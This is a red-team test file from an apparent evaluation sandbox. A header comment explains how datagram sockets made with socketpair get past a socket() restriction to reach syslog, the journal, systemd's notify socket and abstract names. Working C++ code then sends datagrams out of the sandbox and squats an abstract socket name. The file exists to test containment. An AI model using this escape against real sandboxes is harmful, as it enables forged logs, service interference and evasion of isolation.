// ATTACK (round 17, helper-redteam17, against 08ef93d; containment: the
// round 16 socket fix, bypassed). Round 16 (r16_unix_connect) made host
// ranks' socket() fail with EPERM and kept socketpair(AF_UNIX) on the
// ground that "a connected pair reaches no one" (containment.cc
// HardenCandidateProcess). That holds for SOCK_STREAM and SOCK_SEQPACKET,
// not for SOCK_DGRAM: a datagram socket of a pair may still be given an
// address (sendto(2) with a destination; connect(2) re-targets a datagram
// socket at any time), and unix_dgram_sendmsg looks the destination up by
// path or abstract name like any other socket. Landlock has no right for
// sending to a named socket and ConfineWrites does not ask for
// LANDLOCK_SCOPE_ABSTRACT_UNIX_SOCKET (ABI >= 6; this kernel has 7). So a
// rank reaches every datagram service its uid may in a bare launch: the
// journal and syslog (/dev/log, /run/systemd/journal/socket: forged log
// lines under any identifier), systemd's notify socket (READY/STOPPING/
// WATCHDOG=trigger/FDSTORE on behalf of the unit that started the launch
// where NotifyAccess=all), any daemon's datagram control socket; with
// SCM_RIGHTS it can hand them descriptors (its memfds). It may also bind a
// pair's socket to an abstract name (no path, no Landlock right) and squat
// a name a service binds later.
// The test stands up two datagram listeners: a path outside the writable
// folders (mode 0777) and an abstract name, named in
// $PKF_REDTEAM_DIR/svc.path; rank 0 sends one datagram to each from a
// socketpair(AF_UNIX, SOCK_DGRAM) socket, and tries an abstract bind.
// Gated: outputs are written only if a datagram was sent.
// EXPECT: WRONG_OUTPUT (no datagram leaves the evaluation), the test's
// services hear nothing.
#include <sys/socket.h>
#include <sys/un.h>

#include "kernels/testdata/redteam/redteam.h"

static socklen_t Addr(const std::string& name, bool abstract, sockaddr_un* a) {
  memset(a, 0, sizeof *a);
  a->sun_family = AF_UNIX;
  if (abstract) {
    snprintf(a->sun_path + 1, sizeof a->sun_path - 1, "%s", name.c_str());
    return (socklen_t)(offsetof(sockaddr_un, sun_path) + 1 + name.size());
  }
  snprintf(a->sun_path, sizeof a->sun_path, "%s", name.c_str());
  return (socklen_t)sizeof *a;
}

static bool Attack(pkf_context* ctx) {
  if (ctx->rank != 0) return true;
  const char* dir = getenv("PKF_REDTEAM_DIR");
  if (dir == NULL) return false;
  const std::string spec = rt_read(std::string(dir) + "/svc.path");
  const size_t nl = spec.find('\n');
  if (nl == std::string::npos) return false;
  const std::string path = spec.substr(0, nl);
  std::string abstract = spec.substr(nl + 1);
  while (!abstract.empty() && abstract.back() == '\n') abstract.pop_back();
  const int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
  rt_log("socket(AF_UNIX, SOCK_DGRAM): %d %s", s, s < 0 ? strerror(errno) : "ok");
  if (s >= 0) close(s);
  int sv[2];
  if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, sv) != 0) {
    rt_log("socketpair(AF_UNIX, SOCK_DGRAM): %s", strerror(errno));
    return false;
  }
  bool sent = false;
  char line[128];
  const int n = snprintf(line, sizeof line, "r17_dgram_sendto from uid %d pid %d\n",
                         (int)getuid(), (int)getpid());
  for (int abs = 0; abs < 2; ++abs) {
    const std::string& name = abs ? abstract : path;
    if (name.empty()) continue;
    sockaddr_un a;
    const socklen_t len = Addr(name, abs, &a);
    const ssize_t w = sendto(sv[0], line, (size_t)n, 0, (sockaddr*)&a, len);
    rt_log("sendto %s%s from a socketpair socket: %s", abs ? "@" : "", name.c_str(),
           w == n ? "sent" : strerror(errno));
    sent = sent || w == n;
  }
  sockaddr_un b;
  const std::string squat = abstract + "-squat";
  const socklen_t blen = Addr(squat, true, &b);
  const int br = bind(sv[1], (sockaddr*)&b, blen);
  rt_log("bind a socketpair socket to @%s: %s", squat.c_str(), br == 0 ? "bound" : strerror(errno));
  close(sv[0]);
  close(sv[1]);
  return sent;
}

RT_GATED_CANDIDATE(Attack)
